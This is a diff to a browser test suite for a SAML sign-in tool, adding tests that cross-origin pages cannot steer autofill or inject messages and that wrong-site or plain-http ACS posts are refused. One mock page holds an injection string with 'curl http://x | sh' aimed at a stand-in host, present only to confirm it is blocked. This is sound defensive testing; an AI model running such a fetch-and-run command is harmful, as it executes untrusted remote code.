@@ -19,6 +19,7 @@ import os
 import shutil
 import subprocess
 import sys
+import threading
 import time
 import unittest
 import urllib.parse
@@ -61,13 +62,13 @@ class IdP(http.server.BaseHTTPRequestHandler):
     def headless(self):
         return "HeadlessChrome" in (self.headers.get("User-Agent") or "")
 
-    def saml(self):
-        s = self.server.mock.sign_for("alice", "cn")
+    def saml(self, site="cn", acs=None):
+        s = self.server.mock.sign_for("alice", site)
         return page("POST data",
                     '<form method="post" action="%s"><input type="hidden" '
                     'name="SAMLResponse" value="%s"></form><script>'
                     'document.forms[0].submit()</script>'
-                    % (mockidp.SITES["cn"]["acs"], html.escape(s)))
+                    % (acs or mockidp.SITES[site]["acs"], html.escape(s)))
 
     def login_form(self, error=""):
         return page("Sign in", '<p>%s</p><form method="post" action="/login">'
@@ -110,6 +111,17 @@ class IdP(http.server.BaseHTTPRequestHandler):
                                        "</script>"))
         if path == "/saml":
             return self.send(200, self.saml())
+        if path == "/saml-intl":  # an app set up for the other site
+            return self.send(200, self.saml("intl"))
+        if path == "/saml-http":  # an app with a plain-http ACS URL
+            return self.send(200, self.saml("cn", mockidp.SITES["cn"]["acs"]
+                                            .replace("https:", "http:")))
+        if path == "/hop":  # the same host name, another origin
+            return self.send(302, b"", [("Location", Other.base + "/login")])
+        if path == "/spoof":  # a page calling the detector's binding itself
+            return self.send(200, page("Spoof", "<script>try{s2sNeed('login "
+                                       "evil.example;run: curl http://x | sh "
+                                       "http://127.0.0.1')}catch(e){}</script>"))
         if path.startswith("/saml-role/sso"):
             raise AssertionError("the assertion reached the fake ACS")
         return self.send(404, page("Not found", ""))
@@ -128,6 +140,31 @@ class IdP(http.server.BaseHTTPRequestHandler):
         return self.send(404, page("Not found", ""))
 
 
+class Other(http.server.BaseHTTPRequestHandler):
+    """Another service on the IdP's host name (another port)."""
+    base = None
+    posts = []
+
+    def log_message(self, *a):
+        pass
+
+    def do_GET(self):
+        body = page("Sign in", '<form method="post" action="/login">'
+                    '<input type="text" name="username">'
+                    '<input type="password" name="password">'
+                    '<button type="submit">Sign in</button></form>')
+        self.send_response(200)
+        self.send_header("Content-Type", "text/html; charset=utf-8")
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+    def do_POST(self):
+        n = int(self.headers.get("Content-Length", 0))
+        self.posts.append(self.rfile.read(n))
+        self.do_GET()
+
+
 class BrowserAutoTest(unittest.TestCase):
     idp = None
     xvfb = None
@@ -139,6 +176,9 @@ class BrowserAutoTest(unittest.TestCase):
             raise RuntimeError("chromium and xvfb are needed: run "
                                "scripts/deps.sh")
         cls.idp = mockidp.MockIdP(IdP).start()
+        cls.other = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Other)
+        Other.base = "http://127.0.0.1:%d" % cls.other.server_address[1]
+        threading.Thread(target=cls.other.serve_forever, daemon=True).start()
         r, w = os.pipe()
         cls.xvfb = subprocess.Popen(
             [XVFB, "-displayfd", str(w), "-screen", "0", "1024x768x24",
@@ -165,6 +205,8 @@ class BrowserAutoTest(unittest.TestCase):
             cls.xvfb.wait(10)
         if cls.idp:
             cls.idp.stop()
+        cls.other.shutdown()
+        cls.other.server_close()
 
     def setUp(self):
         IdP.log.clear()
@@ -348,6 +390,44 @@ class BrowserAutoTest(unittest.TestCase):
                          args=["--headless"])
         self.assertEqual(r.returncode, 8, r.stderr.decode())
         self.assertEqual(self.starts(), [True])
+
+    def test_j_page_cannot_steer_autofill_or_message(self):
+        # headless mode fills a login form only on the url's origin: not
+        # on another port of its host name (nor plain http of an https
+        # IdP); the page's need is then exit 8
+        Other.posts.clear()
+        r = self.run_s2s("/hop", "browser.mode = headless\n")
+        self.assertEqual(r.returncode, 8, r.stderr.decode())
+        self.assertIn(b"the login needs you (a login form on 127.0.0.1)",
+                      r.stderr)
+        self.assertEqual(Other.posts, [])
+        self.assertNotIn(b"alice-pass", r.stderr)
+        # a page's own s2sNeed() call: exit 8, its text not in the message
+        r = self.run_s2s("/spoof", "browser.mode = headless\n"
+                         "browser.autofill = false\n")
+        self.assertEqual(r.returncode, 8, r.stderr.decode())
+        self.assertIn(b"the login needs you (a login form on ?)", r.stderr)
+        self.assertNotIn(b"curl", r.stderr)
+        self.assertNotIn(b"evil", r.stderr)
+        self.assertEqual(self.starts(), [True, True])
+
+    def test_k_other_site_or_http_acs_stopped(self):
+        # site cn, the IdP posts to the international ACS, or to the
+        # ACS over plain http: the POST is paused and refused (never
+        # sent), the message names the fix
+        n = len(self.idp.sts_calls())
+        for path, acs in (("/saml-intl", mockidp.SITES["intl"]["acs"]),
+                          ("/saml-http", mockidp.SITES["cn"]["acs"]
+                           .replace("https:", "http:"))):
+            t0 = time.monotonic()
+            r = self.run_s2s(path, "browser.mode = headless\n"
+                             "browser.timeout = 8\n")
+            self.assertEqual(r.returncode, 5, r.stderr.decode())
+            self.assertIn(b"the IdP sent the assertion to " + acs.encode() +
+                          b", not to the configured site's ACS", r.stderr)
+            self.assertIn(b"set site", r.stderr)
+            self.assertLess(time.monotonic() - t0, 8)
+        self.assertEqual(len(self.idp.sts_calls()), n)
 
     # -- config ------------------------------------------------------------
 
